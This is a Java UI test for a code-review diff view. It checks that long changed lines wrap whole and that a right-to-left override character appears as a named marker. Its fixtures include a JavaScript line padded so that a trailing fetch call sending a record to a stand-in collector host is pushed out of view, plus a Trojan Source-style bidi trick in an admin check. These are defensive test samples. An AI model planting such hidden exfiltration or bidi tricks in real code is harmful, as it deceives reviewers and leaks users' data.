package dev.pilothouse.desktop.view;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pilothouse.workspace.FileDiff;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import javafx.application.Platform;
import javafx.scene.Node;
import javafx.scene.Scene;
import javafx.scene.control.Label;
import javafx.scene.layout.VBox;
import javafx.scene.text.Text;
import javafx.stage.Stage;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.testfx.api.FxRobot;
import org.testfx.framework.junit5.ApplicationExtension;
import org.testfx.framework.junit5.Start;

/**
 * A long changed line is shown whole in the review diff: it wraps, it is never cut with an ellipsis. A hidden
 * character is shown as a marker naming it, never drawn raw.
 */
@ExtendWith(ApplicationExtension.class)
class DiffViewUiTest {

    private static final String TAIL = "fetch('https://collector.example/' + JSON.stringify(record))";
    private static final String LONG =
            "    return tables.Order.put({ ...data, status: 'paid' }); " + "// " + "x".repeat(180) + " " + TAIL;

    /** Reads "access denied unless admin" on screen, but the override turns the rest of the line around. */
    private static final String HOSTILE = "    if (role !== 'admin\u202e') { return deny(); }";

    @Start
    void start(Stage stage) {
        FileDiff diff =
                FileDiff.of("resources.js", "export class A {}\n    return 1;\n", "export class A {}\n" + LONG + "\n");
        FileDiff hostile = FileDiff.of("guard.js", "    if (role !== 'admin') { return deny(); }\n", HOSTILE + "\n");
        stage.setScene(new Scene(new VBox(DiffView.of(diff), DiffView.of(hostile)), 700, 400));
        stage.show();
    }

    @Test
    void aLongChangedLineWrapsWithoutAnEllipsis(FxRobot robot) throws Exception {
        CompletableFuture<List<String>> shown = new CompletableFuture<>();
        Platform.runLater(() -> shown.complete(robot.lookup(".diff-text").queryAllAs(Label.class).stream()
                .filter(l -> l.getText().contains(TAIL))
                .map(l -> l.lookupAll(".text").stream()
                        .filter(n -> n instanceof Text)
                        .map(n -> ((Text) n).getText())
                        .reduce("", String::concat))
                .toList()));
        List<String> rendered = shown.get(10, TimeUnit.SECONDS);

        assertThat(rendered).as("the new side of the changed row").isNotEmpty();
        assertThat(rendered).allSatisfy(text -> {
            assertThat(text).doesNotContain("…").contains(TAIL);
        });
    }

    @Test
    void aBidiOverrideIsShownAsANamedMarkerAndNeverDrawnRaw(FxRobot robot) throws Exception {
        CompletableFuture<List<Label>> chips = new CompletableFuture<>();
        CompletableFuture<String> drawn = new CompletableFuture<>();
        CompletableFuture<Long> markedRows = new CompletableFuture<>();
        Platform.runLater(() -> {
            Node list = robot.lookup("#diff-guard-js").query();
            chips.complete(
                    List.copyOf(robot.from(list).lookup(".diff-hidden-char").queryAllAs(Label.class)));
            drawn.complete(list.lookupAll(".text").stream()
                            .filter(n -> n instanceof Text)
                            .map(n -> ((Text) n).getText())
                            .reduce("", String::concat)
                    + robot.from(list).lookup(".diff-run").queryAll().stream()
                            .map(n -> ((Text) n).getText())
                            .reduce("", String::concat));
            markedRows.complete(robot.from(list).lookup(".diff-hidden").queryAll().stream()
                    .map(n -> ((javafx.scene.control.ListCell<?>) n).getItem())
                    .filter(java.util.Objects::nonNull)
                    .distinct()
                    .count());
        });

        assertThat(chips.get(10, TimeUnit.SECONDS)).singleElement().satisfies(chip -> {
            assertThat(chip.getText()).isEqualTo("⟨U+202E⟩");
            assertThat(chip.getTooltip().getText()).contains("U+202E RIGHT-TO-LEFT OVERRIDE");
        });
        assertThat(markedRows.get(10, TimeUnit.SECONDS))
                .as("the row holding it is marked")
                .isEqualTo(1);
        String text = drawn.get(10, TimeUnit.SECONDS);
        assertThat(text).contains("if (role !== 'admin").contains("⟨U+202E⟩").doesNotContain("\u202e");
    }
}
